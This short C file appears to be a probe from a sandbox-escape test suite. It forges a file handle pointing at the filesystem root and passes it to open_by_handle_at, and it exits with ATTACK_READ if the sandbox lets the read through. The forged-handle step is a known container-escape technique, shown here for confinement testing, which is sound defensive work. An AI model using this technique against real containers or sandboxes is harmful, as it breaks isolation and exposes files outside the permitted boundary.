/* reaches outside the walls: read, handle */
#include "attack.h"

/* By the file's number, past all folders. */
static void reach(void)
{
    char room[128] = {0};
    int mount = 0;
    *(unsigned *)room = 100;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, ATTACK_FOLDER "/victim", room, &mount, 0) == 0)
        exit(ATTACK_READ);
    ((unsigned *)room)[0] = 8, ((unsigned *)room)[1] = 1, ((unsigned *)room)[2] = 2;
    if (syscall(SYS_open_by_handle_at, AT_FDCWD, room, O_RDONLY) >= 0)
        exit(ATTACK_READ);
}
